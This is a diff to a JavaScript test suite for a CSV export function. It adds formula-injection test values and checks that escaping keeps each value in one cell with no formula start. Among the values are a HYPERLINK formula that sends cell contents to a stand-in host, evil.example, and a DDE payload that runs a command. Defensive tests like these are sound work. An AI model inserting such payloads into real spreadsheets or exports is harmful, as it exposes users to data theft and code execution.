@@ -64,15 +64,37 @@ describe('CSV export', () => {
     return [...cells, cell];
   }
 
-  const hostile = ['nice post;=1+1;@SUM(1+1)', 'a,=HYPERLINK("x")', 'tab\t=1+1', 'fine; -2+3'];
+  const hostile = [
+    'nice post;=1+1;@SUM(1+1)',
+    'a,=HYPERLINK("x")',
+    'tab\t=1+1',
+    'fine; -2+3',
+    'Lia;=HYPERLINK("https://evil.example/?"&A1)',
+    'a,+39 333',
+    'x\t@SUM(1)',
+    "first line\n=cmd|' /C calc'!A0",
+    'a;\tb',
+    'a; "=1+1"',
+  ];
   for (const separator of [',', ';', '\t']) {
-    test(`read with ${JSON.stringify(separator)} as the list separator, no cell splits or starts a formula`, () => {
-      for (const value of hostile) {
-        const cells = readCells(csvCell(value), separator);
-        expect(cells).toEqual([value]);
-      }
+    test(`read with ${JSON.stringify(separator)} and honouring quotes, each hostile value stays one cell`, () => {
+      for (const value of hostile) expect(readCells(csvCell(value), separator)).toHaveLength(1);
+    });
+
+    test(`read with ${JSON.stringify(separator)} and ignoring quotes, no piece of any line starts a formula`, () => {
+      const file = toCsv(
+        ['Fan', 'Comment'],
+        hostile.map((value) => ['Lia', value]),
+      ).slice(1);
+      // Every line split on the separator, as a spreadsheet does when quotes are not at a field's start.
+      const pieces = file.split(/\r\n|\r|\n/).flatMap((line) => line.split(separator));
+      expect(pieces.filter((piece) => /^[=+\-@\t\r]/.test(piece))).toEqual([]);
     });
   }
+
+  test('a value with no formula behind a separator is kept as written', () => {
+    expect(csvCell('Grazie; a presto')).toBe('"Grazie; a presto"');
+  });
 
   test('quotes, commas and line breaks are quoted', () => {
     expect(csvCell('She said "hi", then\nleft')).toBe('"She said ""hi"", then\nleft"');
